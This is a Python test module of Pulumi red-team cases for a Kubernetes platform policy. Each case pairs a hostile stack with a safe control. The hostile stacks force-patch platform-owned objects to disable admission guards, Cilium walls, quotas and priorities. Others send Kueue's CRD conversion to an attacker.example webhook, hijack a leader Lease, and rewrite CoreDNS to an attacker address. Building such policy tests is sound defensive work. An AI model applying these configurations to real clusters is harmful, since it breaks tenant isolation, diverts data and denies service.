"""Red-team programs: a stack writes an object the platform owns — by its kind's ``*Patch``, by declaring it (a
server-side apply takes over the live object), or by writing in the cluster's or an add-on's namespace — and so
switches off a wall, a guard or a limit. Registered in ``programs.CASES`` on import; the safe control writes the
same kind of object where the stack owns it (its own namespace, its own object)."""
from __future__ import annotations

import pulumi
import pulumi_kubernetes as k8s

from tests.policies.redteam.programs import case

POLICY = "kubernetes-platform-objects-only-by-platform"
PSA = "pod-security.kubernetes.io/enforce"
FORCE = {"pulumi.com/patchForce": "true"}


def tenant(name: str = "analytics") -> k8s.core.v1.Namespace:
    return k8s.core.v1.Namespace(f"ns-{name}", metadata={"name": name, "labels": {
        PSA: "restricted", "okerdma.io/tenant": name}})


@case("identity", POLICY)
def guard_binding_patched_to_audit(bad):
    """The admission guard's binding set to Audit: tenants' RoleBindings to edit/admin are admitted."""
    tenant()
    if bad:
        k8s.admissionregistration.v1.ValidatingAdmissionPolicyBindingPatch(
            "guard", metadata={"name": "okerdma-dev-tenant-roles", "annotations": FORCE},
            spec={"validationActions": ["Audit"]})
    else:  # the stack's own guard binding, declared by it
        k8s.admissionregistration.v1.ValidatingAdmissionPolicyBinding(
            "guard", metadata={"name": "analytics-own-guard"},
            spec={"policyName": "analytics-own-guard", "validationActions": ["Deny"]})


@case("identity", POLICY)
def guard_binding_redeclared_from_another_stack(bad):
    """The platform runs in another stack: this one declares a binding under the guard's own name with Audit, which
    server-side apply lays over the guard's Deny binding. The control declares its own binding under its own name."""
    tenant()
    name = "okerdma-tenant-priority" if bad else "analytics-own-priority"
    k8s.admissionregistration.v1.ValidatingAdmissionPolicyBinding(
        "guard", metadata={"name": name},
        spec={"policyName": name, "validationActions": ["Audit"] if bad else ["Deny"],
              "matchResources": {"namespaceSelector": {"matchExpressions": [
                  {"key": "okerdma.io/tenant", "operator": "Exists"}]}}})


@case("network", POLICY)
def cilium_wall_patch_emptied(bad):
    """A tenant's Cilium wall patched to deny nothing: every other tenant reaches its pods."""
    tenant()
    if bad:
        k8s.apiextensions.CustomResourcePatch(
            "wall", api_version="cilium.io/v2", kind="CiliumClusterwideNetworkPolicy",
            metadata={"name": "okerdma-dev-wall-research", "annotations": FORCE},
            spec={"endpointSelector": {"matchLabels": {"k8s:io.kubernetes.pod.namespace": "research"}},
                  "ingressDeny": []})
    else:  # the stack's own workload, patched
        k8s.apps.v1.DeploymentPatch("app", metadata={"name": "app", "namespace": "analytics", "annotations": FORCE},
                                    spec={"replicas": 2})


@case("network", POLICY)
def namespace_patch_joins_another_tenant(bad):
    """A namespace relabelled into another tenant: the walls and the guard now count its pods as research's."""
    labels = {"okerdma.io/tenant": "research"} if bad else {"team.example.com/cost-centre": "42"}
    k8s.core.v1.NamespacePatch("ns", metadata={"name": "analytics", "labels": labels, "annotations": FORCE})


@case("network", POLICY)
def namespace_patch_drops_the_isolation_label(bad):
    """A namespace's isolation label patched away (dedicated → shared): its pods may land on shared nodes."""
    labels = {"okerdma.io/isolation": ""} if bad else {"team.example.com/owner": "ml"}
    k8s.core.v1.NamespacePatch("ns", metadata={"name": "research", "labels": labels, "annotations": FORCE})


@case("pod", POLICY)
def system_priority_quota_patched_open(bad):
    """A tenant's zero quota on system-priority pods lifted: its pods preempt the platform's daemons."""
    tenant()
    if bad:
        k8s.core.v1.ResourceQuotaPatch("q", metadata={"name": "system-priority", "namespace": "analytics",
                                                     "annotations": FORCE}, spec={"hard": {"pods": "1000"}})
    else:  # a quota the stack declares on its own namespace
        k8s.core.v1.ResourceQuota("q", metadata={"name": "own-pods", "namespace": "analytics"},
                                  spec={"hard": {"pods": "100"}})


@case("pod", POLICY)
def limit_range_patch_lifts_the_defaults(bad):
    """A tenant's LimitRange patched: pods without requests escape the namespace's defaults and maximum."""
    tenant()
    if bad:
        k8s.core.v1.LimitRangePatch("lr", metadata={"name": "defaults", "namespace": "analytics",
                                                   "annotations": FORCE}, spec={"limits": []})
    else:
        k8s.core.v1.ConfigMapPatch("cm", metadata={"name": "settings", "namespace": "analytics",
                                                  "annotations": FORCE}, data={"level": "info"})


@case("pod", POLICY)
def priority_class_patch_raises_tenant_priority(bad):
    """The platform's tenant PriorityClass patched to a system value: tenants preempt each other's jobs."""
    tenant()
    if bad:
        k8s.scheduling.v1.PriorityClassPatch("pc", metadata={"name": "okerdma-tenant-default", "annotations": FORCE},
                                             value=1000000000)
    else:
        k8s.scheduling.v1.PriorityClass("pc", metadata={"name": "analytics-batch"}, value=1000,
                                        preemption_policy="Never")


@case("data", POLICY)
def crd_conversion_webhook_external(bad):
    """Kueue's ClusterQueue CRD given an outside conversion webhook: every quota is sent to and rewritten by it."""
    tenant()
    if bad:
        k8s.apiextensions.v1.CustomResourceDefinitionPatch(
            "cq", metadata={"name": "clusterqueues.kueue.x-k8s.io", "annotations": FORCE},
            spec={"conversion": {"strategy": "Webhook", "webhook": {"conversionReviewVersions": ["v1"], "clientConfig": {
                "url": "https://convert.attacker.example/kueue"}}}})
    else:  # a CRD of the stack's own API group
        k8s.apiextensions.v1.CustomResourceDefinition(
            "cq", metadata={"name": "reports.analytics.example.com"},
            spec={"group": "analytics.example.com", "scope": "Namespaced",
                  "names": {"plural": "reports", "singular": "report", "kind": "Report"},
                  "versions": [{"name": "v1", "served": True, "storage": True,
                                "schema": {"openAPIV3Schema": {"type": "object"}}}]})


@case("data", POLICY)
def crd_of_an_addon_group_declared(bad):
    """A stack declares (server-side applies over) Cilium's policy CRD with a schema of its own."""
    tenant()
    group = "cilium.io" if bad else "analytics.example.com"
    k8s.apiextensions.v1.CustomResourceDefinition(
        "crd", metadata={"name": f"widgets.{group}"},
        spec={"group": group, "scope": "Namespaced", "names": {"plural": "widgets", "kind": "Widget"},
              "versions": [{"name": "v1", "served": True, "storage": True,
                            "schema": {"openAPIV3Schema": {"type": "object"}}}]})


@case("placement", POLICY)
def lease_hijack_kueue_leader(bad):
    """Kueue's leader-election Lease held for ~68 years: no replica leads, no tenant workload is admitted."""
    tenant()
    ns, name = ("kueue-system", "c1f6bfd2.kueue.x-k8s.io") if bad else ("analytics", "my-app-leader")
    k8s.coordination.v1.Lease("l", metadata={"name": name, "namespace": ns},
                              spec={"holderIdentity": "attacker", "leaseDurationSeconds": 2147483647})


@case("placement", POLICY)
def gpu_operator_config_map_rewritten(bad):
    """A ConfigMap in the GPU Operator's namespace (its device plugin's configuration) written by a stack."""
    tenant()
    k8s.core.v1.ConfigMap("cfg", metadata={"name": "device-plugin-config",
                                           "namespace": "gpu-operator" if bad else "analytics"},
                          data={"any": "version: v1\n"})


@case("network", POLICY)
def coredns_custom_in_kube_system(bad):
    """kube-system/coredns-custom rewrites the cluster's DNS: Object Storage and a tenant's services resolve to an
    attacker's address for every pod."""
    tenant()
    k8s.core.v1.ConfigMap("dns", metadata={"name": "coredns-custom", "namespace": "kube-system" if bad else "analytics"},
                          data={"attacker.override": "hosts {\n  203.0.113.7 objectstorage.example.com\n}\n"})


@case("network", POLICY)
def kube_system_object_by_provider_default(bad):
    """An object that names no namespace lands in its provider's default, here kube-system."""
    provider = k8s.Provider("k8s", namespace="kube-system" if bad else "analytics", kubeconfig="{}")
    tenant()
    k8s.core.v1.Secret("s", metadata={"name": "registry"}, string_data={"k": "v"},
                       opts=pulumi.ResourceOptions(provider=provider))


@case("pod", POLICY)
def node_patch_relabels_a_gpu_node(bad):
    """A Node's labels patched: the node joins a pool (a flavor) another tenant's quota admits onto."""
    tenant()
    if bad:
        k8s.core.v1.NodePatch("n", metadata={"name": "10.0.10.5", "labels": {"okerdma.io/pool": "gpu"},
                                             "annotations": FORCE})
    else:
        k8s.core.v1.ServiceAccountPatch("sa", metadata={"name": "runner", "namespace": "analytics",
                                                       "annotations": FORCE})


@case("placement", POLICY)
def config_group_writes_a_kueue_lease(bad):
    """The same Lease through a yaml/v2 ConfigGroup: its objects are registered as resources of their own kind."""
    tenant()
    k8s.yaml.v2.ConfigGroup("cg", objs=[{"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {
        "name": "c1f6bfd2.kueue.x-k8s.io" if bad else "my-app-leader", "namespace": "kueue-system" if bad else "analytics"},
        "spec": {"holderIdentity": "attacker"}}])


@case("network", POLICY)
def resource_quota_list_item_in_kube_system(bad):
    """A ResourceQuotaList item lands in kube-system: the cluster's own namespace gets a quota that starves CoreDNS."""
    tenant()
    k8s.core.v1.ResourceQuotaList("ql", items=[{"metadata": {"name": "q", "namespace": "kube-system" if bad
                                                             else "analytics"}, "spec": {"hard": {"pods": "0"}}}])
